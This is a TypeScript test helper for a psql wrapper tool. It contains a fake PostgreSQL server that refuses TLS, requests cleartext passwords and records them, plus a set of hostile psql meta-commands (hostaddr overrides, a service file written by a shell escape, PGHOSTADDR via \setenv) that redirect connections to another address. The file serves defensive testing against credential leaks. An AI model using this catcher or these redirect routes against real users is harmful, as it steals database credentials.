// What a hostile psql script run by `pgentra psql` can aim at another address (issue 23), and a
// server at that address that records what it is sent. Used by the integration and public-cloud
// psql tests.
import net from 'node:net';
import path from 'node:path';

export interface Catcher {
  /** The port it listens on (listenPort, or the one the OS chose for 0). */
  port: number;
  received(): Buffer;
  startups(): number;
  /** PasswordMessages ('p') received: any of them would be a credential meant for the profile's server. */
  passwords(): number;
  close(): Promise<void>;
}

/** The other server: no TLS, asks every startup for a cleartext password, records everything. */
export async function passwordCatcher(address: string, listenPort: number): Promise<Catcher> {
  const chunks: Buffer[] = [];
  let startups = 0;
  let passwords = 0;
  const sockets = new Set<net.Socket>();
  const server = net.createServer((sock) => {
    sockets.add(sock);
    sock.on('close', () => sockets.delete(sock));
    let buf = Buffer.alloc(0);
    let started = false;
    sock.on('data', (d: Buffer) => {
      chunks.push(d);
      buf = Buffer.concat([buf, d]);
      for (;;) {
        if (!started) {
          if (buf.length < 8) return;
          const len = buf.readInt32BE(0);
          if (buf.length < len) return;
          const code = buf.readInt32BE(4);
          buf = buf.subarray(len);
          if (code === 80877103 || code === 80877104) {
            sock.write('N');
            continue;
          }
          started = true;
          startups++;
          const auth = Buffer.alloc(9);
          auth.write('R', 0);
          auth.writeInt32BE(8, 1);
          auth.writeInt32BE(3, 5); // AuthenticationCleartextPassword
          sock.write(auth);
          continue;
        }
        if (buf.length < 5) return;
        if (buf[0] === 0x70) passwords++;
        const len = buf.readInt32BE(1);
        if (buf.length < len + 1) return;
        buf = buf.subarray(len + 1);
        const msg = Buffer.from('SFATAL\0C28P01\0Mpassword authentication failed\0\0');
        const err = Buffer.alloc(5);
        err.write('E', 0);
        err.writeInt32BE(msg.length + 4, 1);
        sock.end(Buffer.concat([err, msg]));
        return;
      }
    });
    sock.on('error', () => undefined);
  });
  await new Promise<void>((resolve, reject) => {
    server.once('error', reject);
    server.listen(listenPort, address, () => resolve());
  });
  return {
    port: (server.address() as net.AddressInfo).port,
    received: () => Buffer.concat(chunks),
    startups: () => startups,
    passwords: () => passwords,
    close: () =>
      new Promise((r) => {
        for (const s of sockets) s.destroy();
        server.close(() => r());
      }),
  };
}

/** psql meta-commands, by route, that try to reach `otherAddress` (on the profile host's port) while psql believes it talks to the profile's host. */
export function hostileRoutes(dir: string, target: { host: string; port: number; user: string; otherAddress: string }): Record<string, string[]> {
  const { host, port, user, otherAddress } = target;
  const svc = path.join(dir, 'evil-service.conf');
  return {
    'hostaddr=': [`\\connect 'host=${host} hostaddr=${otherAddress} port=${port} dbname=postgres user=${user} sslmode=disable'`],
    'a host list': [`\\connect 'host=${host},${host} hostaddr=${otherAddress},127.0.0.1 port=${port},${port} dbname=postgres user=${user} sslmode=disable'`],
    'a service file written by the script': [
      `\\! printf '[evil]\\nhost=${host}\\nhostaddr=${otherAddress}\\nport=${port}\\ndbname=postgres\\nuser=${user}\\nsslmode=disable\\n' > ${svc}`,
      `\\setenv PGSERVICEFILE ${svc}`,
      `\\connect service=evil`,
    ],
    'PGHOSTADDR via \\setenv': [`\\setenv PGHOSTADDR ${otherAddress}`, `\\setenv PGSSLMODE disable`, `\\connect 'dbname=postgres user=${user}'`],
    '\\connect -reuse-previous': [`\\connect -reuse-previous=on 'hostaddr=${otherAddress} sslmode=disable'`],
  };
}
